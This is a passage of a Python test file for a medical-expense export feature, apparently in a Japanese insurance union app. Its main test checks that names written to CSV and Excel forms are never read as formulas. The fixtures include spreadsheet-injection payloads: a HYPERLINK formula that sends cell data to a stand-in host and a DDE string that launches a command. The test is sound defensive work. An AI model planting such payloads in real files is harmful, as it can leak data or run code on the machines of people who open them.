    assert etax.ensure_demo_credential(union).pk == created.pk
    assert etax.check_credential(created.private_key_pem, created.certificate_pem).key_bits == 2048
    _verify(member_client.get(XML).content, created.certificate_pem)


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"詳細")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\tX",
        "\rX",
    ],
)
def test_csv_and_form_cells_never_run_as_a_formula_in_excel(member_client, insured, typed):
    # Names come from the union's claim data and person records; the form writes them
    # full-width (＝, ＋, －, ＠) and on one line, so no cell opens with an ASCII formula sign.
    person = insured.person
    person.family_name = typed
    person.save()
    _claim(person, 1, typed, CareType.OUTPATIENT, 800)

    [_header, row] = _csv_rows(member_client.get(CSV).content)
    sheet = openpyxl.load_workbook(io.BytesIO(member_client.get(XLSX).content))[
        "医療費集計フォーム"
    ]

    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
    assert row[1] == etax.form_provider_name(etax.xml_text(typed))
    for cell in (sheet["B9"], sheet["C9"]):
        assert cell.data_type == "s" and not cell.value.startswith(FORMULA_STARTS)
    assert (sheet["B9"].value, sheet["C9"].value) == (row[0], row[1])
